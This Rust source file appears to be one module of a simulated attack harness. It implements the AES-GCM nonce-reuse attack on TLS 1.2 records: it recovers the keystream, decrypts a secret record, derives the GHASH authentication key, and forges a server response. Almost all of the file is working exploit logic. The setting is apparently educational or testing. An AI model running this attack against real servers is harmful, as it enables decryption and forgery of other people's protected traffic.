//! One nonce for several records of AES-GCM: their XOR is that of their contents, and their tags give away the key that tags
//! are made with. Joux, 2006; servers that do it: Böck, Zauner and others, 2016.

use super::{Attacker, records, xor};
use crate::gf128::{blocks, common_root, difference, ghash};
use crate::reach::{Between, PUBLIC_PAGE};
use crate::tally::{Tally, Turn};

/// Length of the explicit part of the nonce. RFC 5288 §3.
const EXPLICIT: usize = 8;
/// Length of a tag.
const TAG: usize = 16;
/// What is sent in the server's name.
const FORGED: &str = "HTTP/1.1 200 OK\r\n\r\nThe library is closed.";

/// A record of TLS 1.2's AES-GCM, taken apart.
struct Sealed {
    explicit: Vec<u8>,
    ciphertext: Vec<u8>,
    tag: u128,
    /// What is protected besides. RFC 5246 §6.2.3.3.
    aad: Vec<u8>,
}

/// Waits for records with one nonce; then reads, and at last writes.
#[derive(Default)]
pub struct NonceReuse {
    seen: Vec<Sealed>,
    /// What the nonce encrypts with, as far as a page that everybody knows reaches.
    keystream: Vec<u8>,
    read: usize,
}

impl Attacker<dyn Between> for NonceReuse {
    fn advance(&mut self, victim: &mut (dyn Between + 'static), tally: &mut Tally) -> Turn {
        if self.seen.len() < 3 {
            return self.listen(victim, tally);
        }
        // The second record is the one that is not for everybody.
        let Some(secret) = self.seen.get(1) else { return Turn::GivesUp };
        let text = xor(&secret.ciphertext, &self.keystream);
        tally.recovered.resize(text.len(), None);
        if let Some(byte) = text.get(self.read) {
            tally.reads(self.read, *byte);
            self.read += 1;
            return Turn::Goes;
        }
        match self.forge(victim, tally) {
            Some(true) => Turn::Done,
            _ => Turn::GivesUp,
        }
    }
}

impl NonceReuse {
    fn listen(&mut self, victim: &mut (dyn Between + 'static), tally: &mut Tally) -> Turn {
        tally.tries += 1;
        let Some(bytes) = victim.next() else { return Turn::GivesUp };
        for (version, fragment) in records(&bytes) {
            let parts = fragment.split_at_checked(EXPLICIT).zip(fragment.len().checked_sub(TAG));
            let Some(((explicit, rest), end)) = parts.filter(|(_, end)| *end >= EXPLICIT) else { return Turn::GivesUp };
            let (ciphertext, tag) = rest.split_at(end - EXPLICIT);
            let aad = aad(self.seen.len(), version, ciphertext.len());
            let tag = tag.try_into().map(u128::from_be_bytes).unwrap_or_default();
            self.seen.push(Sealed { explicit: explicit.to_vec(), ciphertext: ciphertext.to_vec(), tag, aad });
        }
        let same = self.seen.windows(2).all(|pair| matches!(pair, [one, other] if one.explicit == other.explicit));
        if !same {
            return Turn::GivesUp;
        }
        if let Some(first) = self.seen.first() {
            self.keystream = xor(&first.ciphertext, PUBLIC_PAGE.as_bytes());
        }
        Turn::Goes
    }

    /// Whether the reader believes a record with a text of the attacker's own.
    fn forge(&self, victim: &mut (dyn Between + 'static), tally: &mut Tally) -> Option<bool> {
        let [one, other, third, ..] = self.seen.as_slice() else { return None };
        let with = |sealed: &Sealed| (blocks(&sealed.aad, &sealed.ciphertext), sealed.tag);
        let (one_with, other_with, third_with) = (with(one), with(other), with(third));
        let pair =
            |left: &(Vec<u128>, u128), right: &(Vec<u128>, u128)| difference((&left.0, left.1), (&right.0, right.1));
        let key = common_root(pair(&one_with, &other_with), pair(&one_with, &third_with))?;
        // What the nonce puts onto each tag.
        let mask = one.tag ^ ghash(key, &one_with.0);
        let ciphertext = xor(FORGED.as_bytes(), &self.keystream);
        let aad = aad(self.seen.len(), [3, 3], ciphertext.len());
        let tag = (ghash(key, &blocks(&aad, &ciphertext)) ^ mask).to_be_bytes();
        let fragment = [one.explicit.as_slice(), &ciphertext, &tag].concat();
        let len = u16::try_from(fragment.len()).ok()?.to_be_bytes();
        let heard = victim.forge(&[&[23, 3, 3], len.as_slice(), &fragment].concat());
        tally.tries += 1;
        if !heard.hung_up {
            tally.forged = Some(FORGED.as_bytes().to_vec());
        }
        Some(!heard.hung_up)
    }
}

/// Sequence number, type, version, length: the first record after the server's Finished has number 1.
fn aad(seen: usize, version: [u8; 2], len: usize) -> Vec<u8> {
    [(seen as u64 + 1).to_be_bytes().as_slice(), &[23], &version, &(len as u16).to_be_bytes()].concat()
}
